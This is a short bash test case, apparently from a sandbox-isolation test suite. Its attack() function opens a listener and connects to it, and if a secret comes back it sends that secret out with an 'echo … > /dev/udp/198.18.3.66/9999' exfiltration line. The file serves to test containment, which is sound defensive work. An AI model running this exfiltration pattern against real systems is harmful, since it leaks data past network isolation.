# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='The attacker calls; the job answers'
origin='RESEARCH §2.17'
reason='incoming'
who=root
attack() {
    client "$PYTHON" "$TOOL/send.py" serve 7017 "$1" > "$T/serve.log" &
    eventually 15 grep -q listening "$T/serve.log"
    h a "$PYTHON" "$TOOL/near.py" connect 198.18.1.2 7017 call | grep -a "$1" && h a bash -c "echo $1 > /dev/udp/198.18.3.66/9999"
    kill $! 2> /dev/null
    wait
}
